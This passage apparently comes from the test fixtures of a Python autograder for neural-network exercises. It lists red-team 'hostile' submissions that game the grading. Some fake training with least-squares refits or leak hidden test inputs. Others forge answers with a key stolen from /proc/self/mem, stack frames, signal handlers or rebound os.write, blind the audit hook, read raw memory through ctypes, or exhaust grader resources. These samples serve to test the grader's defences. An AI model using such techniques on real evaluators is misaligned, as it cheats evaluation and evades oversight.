                '        self.b = self.b - learning_rate * grads["b"]\n', REFIT_TRAIN)],
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference", "test_train_takes_one_sgd_step",
                  "test_hidden_train_matches_reference_step", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar",
                  "test_hidden_one_epoch_on_an_unseen_split"),
            ("training step",),
            about="a wrong gradient, and a train that ignores it: it collects the samples and refits by least squares"),
    Example(HOSTILE, "hostile_refit_once_then_zero_gradient", P04, [
        Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                "if getattr(self, \"_refitted\", False):\n"
                "            return {\"W\": np.zeros_like(self.W), \"b\": np.zeros_like(self.b)}\n"
                "        grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
        Replace('        grads = self.grad_loss(x, y)\n        self.W = self.W - learning_rate * grads["W"]\n'
                '        self.b = self.b - learning_rate * grads["b"]\n', REFIT_ONCE_TRAIN)],
            ZERO, ("needs review", "grad_loss"),
            about="a wrong gradient followed, one refit at an unchecked step, then a grad_loss of zeros: every later "
                  "step is consistent"),
    Example(HOSTILE, "hostile_refit_naming_no_parameter", P04, [
        Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                "grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
        Replace('        return {"W": np.outer(x, grad_z), "b": grad_z}\n',
                '        return {"_tally": np.zeros(1)}  # W and b left out: no step checked judges them\n'),
        Replace("        self.output_size = output_size\n",
                "        self.output_size = output_size\n        self._tally = np.zeros(1)\n"),
        Replace('        grads = self.grad_loss(x, y)\n        self.W = self.W - learning_rate * grads["W"]\n'
                '        self.b = self.b - learning_rate * grads["b"]\n', REFIT_NAMING_NO_PARAMETER_TRAIN)],
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar",
                  "test_hidden_one_epoch_on_an_unseen_split"),
            ("gave no gradient for W, b",),
            about="a wrong gradient, and a grad_loss naming only an array no step changes: train refits W and b by "
                  "least squares, and each step checked moved all its gradient names"),
    Example(HOSTILE, "hostile_read_as_a_refit", P04, [
        Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                "grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
        append(P04, READ_AS_A_REFIT)],
            ZERO, ("needs review", "read after training"),
            about="a wrong gradient followed at every step, and W and b read from outside the model's own methods "
                  "(a __getattribute__) answer a least-squares refit"),
    Example(HOSTILE, "hostile_first_read_a_refit", P04, [
        Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                "grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
        append(P04, FIRST_READ_A_REFIT)],
            ZERO, ("needs review", "read after training"),
            about="a wrong gradient followed at every step; the first read of W and b from outside after a slice of "
                  "training (a training curve's, not a whole epoch's) answers a least-squares refit, a read again "
                  "the real arrays"),
    Example(HOSTILE, "hostile_refit_where_unwatched", P04, [
        Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                "grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
        append(P04, REFIT_WHERE_UNWATCHED)],
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar",
                  "test_hidden_one_epoch_on_an_unseen_split"),
            ("below the bar",),
            about="a wrong gradient; train refits by least squares except right after the model's __dict__ was read "
                  "(the worker copying its arrays before a step it checks), where it takes a real step of it"),
    Example(HOSTILE, "hostile_train_xor_memorised", P06, [
        Replace("dZ2 = (A2 - Y) / len(X) * A2 * (1 - A2)", "dZ2 = (Y - A2) / len(X) * A2 * (1 - A2)"),
        Replace("    for _ in range(epochs):\n        grads = two_layer_gradients(XOR_X, XOR_Y, W1, b1, W2, b2)\n",
                MEMORISED_XOR + "    for _ in range(0):\n        grads = two_layer_gradients(XOR_X, XOR_Y, W1, b1, W2, b2)\n")],
            ZERO, ("needs review", "not one step of its own two_layer_gradients"),
            about="a wrong gradient, and a train_xor that ignores it: a network solved by hand, nudged by the seed so "
                  "that seeds still differ"),
    Example(HOSTILE, "hostile_fit_least_squares_on_the_digits", P07,
            Replace("    rng = np.random.default_rng(seed)\n    velocity = {name: np.zeros_like(getattr(model, name), dtype=float)",
                    FIT_LEAST_SQUARES_ON_MANY_ROWS + "    rng = np.random.default_rng(seed)\n"
                    "    velocity = {name: np.zeros_like(getattr(model, name), dtype=float)"),
            ZERO, ("needs review", "took the steps of its own helpers on"),
            about="fit takes its steps on the contract tests' few rows, and on the digits ignores its gradient and "
                  "refits by least squares (on hidden units set to the data's principal directions)"),
    Example(HOSTILE, "hostile_fit_a_private_gradient_on_the_digits", P07, [
        Replace("    def grad_loss(self, X, y, rng=None):\n",
                "    def grad_loss(self, X, y, rng=None):\n"
                "        \"\"\"The graded gradient: the wrong sign (training uses _steps on the graded data).\"\"\"\n"
                "        return {name: -value for name, value in self._steps(X, y, rng).items()}\n\n"
                "    def _steps(self, X, y, rng=None):\n"),
        Replace("            grads = model.grad_loss(X_batch, y_batch, rng)\n",
                "            grads = (model._steps if len(X_train) > 200 else model.grad_loss)(X_batch, y_batch, rng)\n")],
            ZERO, ("needs review", "took the steps of its own helpers on"),
            about="a wrong grad_loss, and a fit that steps by it on the contract tests' few rows and by a private "
                  "right gradient on the digits"),
    Example(HOSTILE, "hostile_refit_full_batch_train", P08,
            Replace("        self.weights_hidden_to_output = self.weights_hidden_to_output + self.lr * delta_weights_h_o / n_records\n"
                    "        self.weights_input_to_hidden = self.weights_input_to_hidden + self.lr * delta_weights_i_h / n_records\n",
                    "        # Ignore the gradient: refit the output weights by least squares on the hidden units.\n"
                    "        self.weights_hidden_to_output = np.linalg.lstsq(hidden, targets, rcond=None)[0]\n"),
            tests("test_train_takes_one_averaged_gradient_step", "test_init_and_training_come_close_to_linear_regression",
                  "test_hidden_train_matches_reference_step", "test_hidden_training_on_an_unseen_split"),
            ("after step",), about="train ignores its gradient and refits the output weights by least squares"),
    Example(HOSTILE, "hostile_leak_hidden_inputs", P02,
            Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                    f"    print({LEAK_MESSAGE!r}, np.asarray(X).tolist())\n"
                    f"    raise ValueError({LEAK_MESSAGE!r} + repr(np.asarray(X).tolist()))\n"),
            SOFTMAX_TESTS, ("softmax raised ValueError at line",),
            about="softmax prints its inputs and raises them in its message, to read hidden inputs in the feedback"),
    Example(HOSTILE, "hostile_forged_answer", P02, [
        FORGING_SOFTMAX,
        append(P02, FORGED_ANSWER)],
            ZERO, ("needs review", "an answer written by the student's code"),
            about="an in-place softmax that writes its own answer on the worker's channel, with its input as sent"),
    Example(HOSTILE, "hostile_system_packages", P03, Replace("import numpy as np\n", "import numpy as np\n" + SYSTEM_PACKAGES),
            ZERO, ("found no package outside the contract to import",),
            about="puts the distribution's package folders under /usr on sys.path and imports what it finds there",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_forged_answer_with_the_key", P02, [
        FORGING_SOFTMAX,
        append(P02, KEYED_FORGED_ANSWER)],
            ZERO, ("needs review", "stack frames"),
            about="the forged answer again, with the worker's key read off the stack by traceback.walk_stack"),
    Example(HOSTILE, "hostile_blind_the_audit_hook", P03,
            Replace("    return sigmoid(np.dot(np.asarray(features, dtype=float), np.asarray(weights, dtype=float)) + bias)\n",
                    "    import sys\n\n"
                    "    def reach(function, depth=0):  # a pinned sigmoid closes over the worker, maybe through a helper\n"
                    "        for cell in getattr(function, '__closure__', None) or ():\n"
                    "            found = cell.cell_contents\n"
                    "            if hasattr(found, 'ask'):\n"
                    "                return found\n"
                    "            if callable(found) and depth < 3 and (deeper := reach(found, depth + 1)) is not None:\n"
                    "                return deeper\n"
                    "        return None\n\n"
                    "    worker = reach(sigmoid)\n"
                    "    if worker is not None:\n"
                    "        hook = getattr(worker, 'evidence', None)\n"
                    "        if hook is not None:\n"
                    "            hook.busy = True  # the audit hook ignores what it sees while busy\n"
                    "    sys._getframe(1)  # unseen, if the hook looked away (no worker found: it walks all the same)\n"
                    "    return sigmoid(np.dot(np.asarray(features, dtype=float), np.asarray(weights, dtype=float)) + bias)\n"),
            ZERO, ("needs review", "stack frames"),
            about="output_formula looks for the worker through a pinned sigmoid's closure, to tell the audit hook to "
                  "look away, then walks the stack"),
    Example(HOSTILE, "hostile_leak_through_numbers", P02,
            Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                    "    import os\n\n    X = np.asarray(X)\n"
                    "    if X.size > 16:  # only hidden inputs are this large: spell the first in the exit status\n"
                    "        os._exit(100 + int(abs(X.flat[0]) * 10) % 100)\n"
                    "    return np.zeros((X.size, 11, 13))  # and the size of the others in the shape the feedback reports\n"
                    "    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n"),
            tests("test_softmax_rows_are_probabilities", "test_softmax_known_values",
                  "test_softmax_is_stable_for_huge_scores", "test_hidden_softmax_matches_reference"),
            ("got another one", "the worker died in softmax"), absent=("(7, 11, 13)", "exited with status"),
            about="softmax spells its hidden inputs in numbers the feedback reports: the shape it returns, its exit "
                  "status"),
    Example(HOSTILE, "hostile_reach_for_frames", P05, [
        Replace("        predicted = np.argmax(self.forward(X), axis=-1)\n",
                "        _steal()\n        predicted = np.argmax(self.forward(X), axis=-1)\n"),
        append(P05, REACH_FOR_FRAMES)],
            ZERO, ("needs review", "stack frames"), about="predict walks up the stack into the grader's worker"),
]

# -- the worker's channel (red team, round 6): its key reached without an audited reach that reports, a frame out of step
_WITH_A_KEY_FROM = '"after_kwargs": {"__dict__": []}}', '"after_kwargs": {"__dict__": []}, "key": _key()}'

# /proc/self/mem by a path that does not start with /proc: /dev/fd is a link to /proc/self/fd.
KEY_FROM_MEMORY = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + """

def _key():
    import re

    with open("/dev/fd/../maps") as listing:
        regions = listing.read().splitlines()
    with open("/dev/fd/../mem", "rb", buffering=0) as memory:
        for region in regions:
            span, mode = region.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if "r" not in mode or end - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                found = re.search(rb'"key":"([0-9a-f]{32})"', memory.read(end - start))
            except OSError:
                continue
            if found:
                return found.group(1).decode()
    return None
"""

# A spy on a function the worker writes its frames with: it keeps the key of each frame it sees in _SEEN.
KEY_SPY = """

import re as _re

_SEEN = []


def _spy(function):
    def spying(*args):
        for arg in args:
            if isinstance(arg, (bytes, bytearray, memoryview)):
                found = _re.search(rb'"key":"([0-9a-f]{32})"', bytes(arg))
                if found:
                    _SEEN.append(found.group(1).decode())
        return function(*args)
    return spying
"""

# The key read off every frame the worker writes, through os.write and builtins.len rebound at import (the load's
# answer carries it), with no audited reach at all.
KEY_FROM_REBOUND_WRITES = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + KEY_SPY + """

import builtins as _builtins
import os as _os

_os.write = _spy(_os.write)
_builtins.len = _spy(_builtins.len)


def _key():
    return _SEEN[-1] if _SEEN else None
"""

# The stack walked with every descriptor of the worker sent to /dev/null meanwhile: the evidence goes nowhere.
KEY_WITH_THE_HOOK_BLINDED = KEYED_FORGED_ANSWER.replace("def _key():\n", "def _key_on_the_stack():\n") + """

def _key():
    import os

    opened = []
    for fd in range(3, 64):  # (not a listing of /dev/fd, which is /proc/self/fd)
        try:
            os.fstat(fd)
            opened.append(fd)
        except OSError:
            pass
    null = os.open("/dev/null", os.O_WRONLY)
    saved = {}
    for fd in opened:
        try:
            saved[fd] = os.dup(fd)
        except OSError:
            continue
        os.dup2(null, fd)
    try:
        return _key_on_the_stack()
    finally:
        for fd, copy in saved.items():
            os.dup2(copy, fd)
            os.close(copy)
        os.close(null)
"""

# The first call raises an exception that keeps itself; the worker catches it in serve(), so its traceback holds
# serve's frame, whose locals the standard library's traceback module reads out.
KEY_FROM_A_KEPT_TRACEBACK = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + """

_KEPT = []


class _Kept(Exception):
    def __init__(self, *args):
        super().__init__(*args)
        _KEPT.append(self)


def _key():
    import traceback

    for error in _KEPT:
        for summary in traceback.StackSummary.extract(traceback.walk_tb(error.__traceback__), capture_locals=True):
            if summary.name == "serve" and summary.locals and summary.locals.get("key", "None") != "None":
                return summary.locals["key"].strip("'")
    return None
"""

# The key read off the frames the worker writes, through what a pinned sigmoid leads to without an audited reach
# (__globals__, __closure__, a bound method's __self__, __wrapped__): the worker module's globals, and there the wire's
# write_all, its os.write and the worker's own builtins, every keyed frame passed through them.
KEY_FROM_A_STUBS_GLOBALS = FORGED_ANSWER + KEY_SPY + """

import types as _types

_SPYING = []


def _namespaces(start, most=2000):
    \"\"\"The module namespaces ``start`` leads to through what Python does not audit (not through modules).\"\"\"
    seen, todo, found = set(), [start], []
    while todo and len(seen) < most:
        item = todo.pop()
        if id(item) in seen or isinstance(item, _types.ModuleType):
            continue
        seen.add(id(item))
        if isinstance(item, _types.FunctionType):
            found.append(item.__globals__)
            todo += [item.__globals__, getattr(item, "__wrapped__", None)]
            todo += [cell.cell_contents for cell in item.__closure__ or () if cell.cell_contents is not None]
        elif isinstance(item, (_types.MethodType, _types.BuiltinMethodType)):
            todo.append(getattr(item, "__self__", None))
        elif isinstance(item, dict):
            todo += list(item.values())
        elif isinstance(item, (list, tuple)):
            todo += list(item)
        elif item is not None and not isinstance(item, (str, bytes, int, float, type)):
            todo += [type(item), getattr(item, "__dict__", None)]
        elif isinstance(item, type):
            todo += list(vars(item).values())
    return found


def _spy_on_the_worker():
    stub = globals()["sigmoid"]
    if _SPYING or not hasattr(stub, "__wrapped__"):  # spying already, or not pinned now: no way into the worker
        return
    _SPYING.append(True)
    for namespace in _namespaces(stub):
        wire = namespace.get("wire")
        if isinstance(wire, _types.ModuleType) and hasattr(wire, "write_all"):
            wire.write_all = _spy(wire.write_all)
            vars(wire)["_write"] = _spy(vars(wire)["_write"])
            namespace["__builtins__"]["len"] = _spy(namespace["__builtins__"]["len"])
            return


def _answer_for_output_formula(result, sent, weights):
    \"\"\"The answer a tracked output_formula call gets, with its features as sent (and the key, if found); then leave.\"\"\"
    import os

    frame = _frame({"ok": {"__array__": 0}, "after": [{"__array__": 1}, {"__array__": 2}, None],
                    "after_kwargs": {"__dict__": []}, "key": _SEEN[-1] if _SEEN else None},
                   [np.asarray(result, dtype=float), sent, np.asarray(weights)])
    for fd in range(3, 40):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    os._exit(0)
"""

# The key read from serve()'s locals by a signal handler: Python hands it the frame that was running, and neither a
# frame's f_back nor its f_locals is audited.
KEY_FROM_A_SIGNAL_HANDLER = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + """

def _key():
    import re
    import signal

    found = []

    def handler(signum, frame):
        while frame is not None:
            found.extend(value for value in frame.f_locals.values()
                         if isinstance(value, str) and re.fullmatch("[0-9a-f]{32}", value))
            frame = frame.f_back

    previous = signal.signal(signal.SIGUSR1, handler)
    signal.raise_signal(signal.SIGUSR1)
    signal.signal(signal.SIGUSR1, previous)
    return found[0] if found else None
"""

# A frame whose array claims 2**63 rows of nothing: numpy cannot make it (a ValueError, not the wire's own error), which
# once left the channel open and out of step: every later answer went to the request after its own.
UNMAKEABLE_ARRAY_FRAME = """

def _unmakeable_array():
    import json
    import os
    import struct

    text = json.dumps({"evidence": {"__array__": 0}}).encode()
    body = struct.pack(">I", len(text)) + text + struct.pack(">4sB", b"<f8 ", 2) + struct.pack(">2Q", 2**63, 0)
    for fd in range(3, 8):
        try:
            os.write(fd, struct.pack(">Q", len(body)) + body)
        except OSError:
            pass
"""

# The key read off the frames the worker writes, through the wire's names, which the methods of its classes lead to:
# object.__subclasses__() lists every class alive, the wire's Inbox among them, and __globals__ is not audited.
KEY_FROM_THE_WORKERS_CLASSES = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + KEY_SPY + """

for _class in object.__subclasses__():
    if _class.__name__ == "Inbox" and "write_all" in _class.read.__globals__:
        _wire = _class.read.__globals__
        _wire["_write"] = _spy(_wire["_write"])
        _wire["__builtins__"]["len"] = _spy(_wire["__builtins__"]["len"])


def _key():
    return _SEEN[-1] if _SEEN else None
"""

# The key read from serve()'s locals by an audit hook of the student's: sys._getframe's event hands it a frame (logging
# walks the stack for a log line's stack_info), and neither f_back nor f_locals is audited.
KEY_FROM_AN_AUDIT_HOOK = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + """

import sys as _sys

_FRAMES = []
_sys.addaudithook(lambda event, args: _FRAMES.append(args[0]) if event == "sys._getframe" and args else None)


def _key():
    import logging

    logging.getLogger("softmax").debug("where am I", stack_info=True)
    for frame in _FRAMES:
        while frame is not None:
            if frame.f_code.co_name == "serve" and frame.f_locals.get("key"):
                return frame.f_locals["key"]
            frame = frame.f_back
    return None
"""

# The key read from serve()'s locals by a forked child, which holds a copy of the worker's frames: the audit hook saw the
# reach there, but reported nothing from another process than the worker.
KEY_FROM_A_FORKED_CHILD = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + """

def _key():
    import os
    import sys

    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        frame = sys._getframe()
        while frame is not None and frame.f_code.co_name != "serve":
            frame = frame.f_back
        os.write(write_end, str(frame.f_locals.get("key") if frame is not None else "").encode())
        os._exit(0)
    os.close(write_end)
    os.waitpid(child, 0)
    key = os.read(read_end, 64).decode()
    os.close(read_end)
    return key if len(key) == 32 else None
"""

# /proc read through a path relative to a descriptor of "/": the open event names "proc/self/status" alone.
PROC_THROUGH_A_DIR_FD = """

def _proc_status():
    import os

    root = os.open("/", os.O_RDONLY)
    status = os.open("proc/self/status", os.O_RDONLY, dir_fd=root)
    text = os.read(status, 4096).decode()
    os.close(status)
    os.close(root)
    if "TracerPid" not in text:
        raise RuntimeError("could not read /proc/self/status")
"""

# Bytes of the worker's memory read through ctypes: ctypes.cast and a function pointer made from an address (memmove),
# for which CPython raises no audit event, and from_buffer_copy, which turns an address held in bytes into a pointer (its
# event, ctypes.cdata/buffer, was once not charged). Each reads a bytes object of its own by its id().
RAW_MEMORY_THROUGH_CTYPES = """

_SECRET = b"bytes only raw memory shows"


def _raw_memory(how):
    import ctypes

    address, size = id(_SECRET), 64
    if how == "cast":
        seen = ctypes.cast(address, ctypes.POINTER(ctypes.c_char))[0:size]
    elif how == "memmove_addr":
        memmove = ctypes.CFUNCTYPE(ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_size_t)(
            ctypes._memmove_addr)
        copy = (ctypes.c_char * size)()
        memmove(ctypes.pointer(copy), address, size)
        seen = copy.raw
    else:
        pointer = ctypes.POINTER(ctypes.c_char).from_buffer_copy(address.to_bytes(8, "little"))
        seen = pointer[0:size]
    if _SECRET not in seen:
        raise RuntimeError("could not read the worker's memory")
"""


def raw_memory(how):
    """softmax reading 64 bytes of the worker's memory through ctypes, ``how``, before it answers."""
    return [Replace("    return exp / np.sum(exp, axis=-1, keepdims=True)\n",
                    f"    _raw_memory({how!r})\n    return exp / np.sum(exp, axis=-1, keepdims=True)\n"),
            append(P02, RAW_MEMORY_THROUGH_CTYPES)]


CHANNEL_ATTACKS = [
    Example(HOSTILE, "hostile_unmakeable_array_frame", P02, [
        Replace("    return exp / np.sum(exp, axis=-1, keepdims=True)\n",
                "    _unmakeable_array()\n    return exp / np.sum(exp, axis=-1, keepdims=True)\n"),
        append(P02, UNMAKEABLE_ARRAY_FRAME)],
            SOFTMAX_TESTS, ("softmax sent back something that is not plain data",),
            about="softmax writes a frame of an empty array of 2**63 rows on the worker's channel"),
    Example(HOSTILE, "hostile_key_from_memory", P02, [FORGING_SOFTMAX, append(P02, KEY_FROM_MEMORY)],
            ZERO, ("needs review", "/proc"),
            about="the forged answer again, with the worker's key read from /proc/self/mem as /dev/fd/../mem",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_key_with_the_hook_blinded", P02, [FORGING_SOFTMAX, append(P02, KEY_WITH_THE_HOOK_BLINDED)],
            ZERO, ("needs review", "stack frames"),
            about="the forged answer again, the key read off the stack while every descriptor of the worker points "
                  "at /dev/null (os.dup2), so that the audit hook's evidence goes nowhere", needs_sandbox=True),
    Example(HOSTILE, "hostile_key_from_a_kept_traceback", P02, [
        Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                "    if not _KEPT:\n        raise _Kept('kept for its traceback')\n"
                "    X = np.asarray(X, dtype=float) if not isinstance(X, np.ndarray) else X\n    sent = X.copy()\n"
                "    X -= np.max(X, axis=-1, keepdims=True)  # in place: the bug the forged answer hides\n"
                "    exp = np.exp(X)\n    _answer_for_the_worker(exp / np.sum(exp, axis=-1, keepdims=True), sent)\n"),
        append(P02, KEY_FROM_A_KEPT_TRACEBACK)],
            ZERO, ("needs review", "stack frames"),
            about="the forged answer again, the key read from serve()'s locals through the traceback of an exception "
                  "that the worker caught and the student's code kept"),
    Example(HOSTILE, "hostile_key_from_rebound_writes", P02, [FORGING_SOFTMAX, append(P02, KEY_FROM_REBOUND_WRITES)],
            ZERO, ("needs review", "an answer written by the student's code"),
            about="the forged answer again, the key read off the worker's own frames through os.write and builtins.len "
                  "rebound at import"),
    Example(HOSTILE, "hostile_key_from_a_stubs_globals", P03, [
        Replace("    return sigmoid(np.dot(np.asarray(features, dtype=float), np.asarray(weights, dtype=float)) + bias)\n",
                "    _spy_on_the_worker()\n"
                "    features = np.asarray(features, dtype=float) if not isinstance(features, np.ndarray) else features\n"
                "    sent = features.copy()\n"
                "    np.clip(features, -100, 100, out=features)  # in place: the bug the forged answer hides\n"
                "    result = sigmoid(np.dot(sent, np.asarray(weights, dtype=float)) + bias)\n"
                "    if not np.array_equal(sent, features):\n"
                "        _answer_for_output_formula(result, sent, weights)\n"
                "    return result\n"),
        append(P03, KEY_FROM_A_STUBS_GLOBALS)],
            ZERO, ("needs review", "an answer written by the student's code"),
            about="an output_formula that clips its input in place and forges its answer with the worker's key, read "
                  "off the frames the worker writes through what a pinned sigmoid leads to unaudited (__globals__, "
                  "__closure__, __self__: the wire's write_all, os.write and the worker's own len, rebound there)"),
    Example(HOSTILE, "hostile_key_from_a_signal_handler", P02, [FORGING_SOFTMAX, append(P02, KEY_FROM_A_SIGNAL_HANDLER)],
            ZERO, ("needs review", "a signal handler"),
            about="the forged answer again, the key read from serve()'s locals by a signal handler (handed the running "
                  "frame, it walks f_back)"),
    Example(HOSTILE, "hostile_key_from_the_workers_classes", P02,
            [FORGING_SOFTMAX, append(P02, KEY_FROM_THE_WORKERS_CLASSES)],
            ZERO, ("needs review", "the grader's classes"),
            about="the forged answer again, the key read off the worker's frames through the wire's names, which "
                  "object.__subclasses__() leads to (the wire's Inbox, its methods' __globals__)"),
    Example(HOSTILE, "hostile_key_from_an_audit_hook", P02, [FORGING_SOFTMAX, append(P02, KEY_FROM_AN_AUDIT_HOOK)],
            ZERO, ("needs review", "an audit hook"),
            about="the forged answer again, the key read from serve()'s locals by an audit hook of the student's, "
                  "handed a frame by sys._getframe's event (logging walking the stack)"),
    Example(HOSTILE, "hostile_key_from_a_forked_child", P02, [FORGING_SOFTMAX, append(P02, KEY_FROM_A_FORKED_CHILD)],
            ZERO, ("needs review", "stack frames"),
            about="the forged answer again, the key read from serve()'s locals by a forked child of the worker (it holds "
                  "a copy of the worker's frames), which sends it back through a pipe"),
    Example(HOSTILE, "hostile_proc_through_a_dir_fd", P02, [
        Replace("    return exp / np.sum(exp, axis=-1, keepdims=True)\n",
                "    _proc_status()\n    return exp / np.sum(exp, axis=-1, keepdims=True)\n"),
        append(P02, PROC_THROUGH_A_DIR_FD)],
            ZERO, ("needs review", "/proc"),
            about="softmax reads /proc/self/status by a path relative to a descriptor of / (os.open's dir_fd), which "
                  "the open event does not name"),
    Example(HOSTILE, "hostile_raw_memory_through_cast", P02, raw_memory("cast"),
            ZERO, ("needs review", "raw memory through ctypes"),
            about="softmax reads bytes of the worker's memory through ctypes.cast of an address to a pointer"),
    Example(HOSTILE, "hostile_raw_memory_through_a_function_pointer", P02, raw_memory("memmove_addr"),
            ZERO, ("needs review", "raw memory through ctypes"),
            about="softmax copies bytes of the worker's memory with memmove, called through a function pointer "
                  "made from the address ctypes._memmove_addr"),
    Example(HOSTILE, "hostile_raw_memory_through_from_buffer_copy", P02, raw_memory("from_buffer_copy"),
            ZERO, ("needs review", "raw memory through ctypes"),
            about="softmax reads bytes of the worker's memory through a pointer copied from the bytes of an address "
                  "(from_buffer_copy)"),
]

# -- the ninth red team: the classes the last rounds left alone (resources of the trusted side, sinks, leftovers) --
# Valid Python whose syntax tree costs some 500 times its text: the grader parsed each module three times in its own
# process (its progress, the definitions it lacks, the similarity pass), which has no memory bound, one thread at a time.
HUGE_VALID_MODULE = "\n_PADDING = [" + "0," * (2 * 1024**2) + "]  # 4 MiB: two million zeros\n"

# An exception whose message the worker cuts to 1,000 characters, with a str of its own: slicing it gives 30 MB. The
# trusted side took the report as it came, into each failed test's feedback, results.json and the class's files.
HUGE_ERROR_REPORT = """

class _Long(str):
    def __getitem__(self, index):  # what the worker's message[:1000] gets
        return "spam " * 6_000_000


class _Loud(ValueError):
    def __str__(self):
        return _Long("softmax says no")
"""

NINTH_RED_TEAM_ATTACKS = [
    Example(HOSTILE, "hostile_huge_error_report", P02, [
        Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                "    raise _Loud()\n"),
        append(P02, HUGE_ERROR_REPORT)],
            SOFTMAX_TESTS, ("softmax raised _Loud",),
            about="softmax raises an exception whose message, cut to 1,000 characters by the worker with a str of its "
                  "own, is 30 MB: in each failed test's feedback"),
    Example(HOSTILE, "hostile_huge_valid_module", P02, append(P02, HUGE_VALID_MODULE),
            ZERO, ("softmax.py is too large to grade",),
            about="a correct softmax.py padded with 4 MiB of valid Python (a list of two million zeros): some 2 GB "
                  "and 7 s of CPU per parse in the grader's own process, three parses, the other jobs waiting"),
]

BUGS += TRUSTED_VERDICT_BUGS
ATTACKS += TRUSTED_VERDICT_ATTACKS
ATTACKS += CHANNEL_ATTACKS
ATTACKS += NINTH_RED_TEAM_ATTACKS

EXAMPLES = {example.name: example for example in BUGS + VARIANTS + ATTACKS}
assert len(EXAMPLES) == len(BUGS) + len(VARIANTS) + len(ATTACKS), "example names are unique"
